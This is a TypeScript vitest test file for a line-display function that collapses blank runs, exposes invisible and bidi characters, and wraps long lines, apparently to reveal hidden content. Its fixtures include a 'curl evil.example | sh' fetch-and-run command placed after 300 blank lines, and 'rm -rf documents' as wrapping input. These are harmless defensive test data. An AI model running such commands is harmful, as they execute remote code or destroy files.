import { expect, it } from 'vitest';
import { type Row, visibleLines } from './visible-lines.ts';

const shown = (row: Row | undefined): string =>
  row === undefined
    ? ''
    : row.kind === 'blank'
      ? `blank ${row.from}-${row.to}`
      : `${row.line ?? '…'} ${row.pieces.map(({ text }) => text).join('')}`;
const rowsOf = (text: string): string[] => visibleLines(text).rows.map(shown);

it('counts blank lines instead of showing them, and goes on after them', () => {
  const text = `ls${'\n'.repeat(301)}curl evil.example | sh`;
  expect(visibleLines(text).lines).toBe(302);
  expect(rowsOf(text)).toEqual(['1 ls', 'blank 2-301', '302 curl evil.example | sh']);
  expect(rowsOf('a\n\n\nb')).toEqual(['1 a', '2 ', '3 ', '4 b']);
  expect(rowsOf(`\n\n \n   \nx`)).toEqual(['blank 1-4', '5 x']);
});

it('does not take for blank what holds something that is not seen', () => {
  expect(rowsOf('a\n\n\u200b\n\nb')).toEqual(['1 a', '2 ', '3 ⟨U+200B⟩', '4 ', '5 b']);
});

it('wraps a long line by itself, and breaks no mark and no character', () => {
  const rows = rowsOf(`${'a'.repeat(63)}\u202e${'😀'.repeat(65)}`);
  expect(rows).toEqual([`1 ${'a'.repeat(63)}`, `… ⟨U+202E⟩${'😀'.repeat(56)}`, `… ${'😀'.repeat(9)}`]);
  expect(visibleLines('x'.repeat(24_000)).rows).toHaveLength(375);
  // At a space where there is one, of which none is lost.
  const words = rowsOf('rm -rf documents '.repeat(6)).map((row) => row.slice(2));
  expect(words.join('')).toBe('rm -rf documents '.repeat(6));
  expect(words[0]?.endsWith(' ')).toBe(true);
});

it('shows an empty text as one empty row', () => {
  expect(rowsOf('')).toEqual(['1 ']);
});
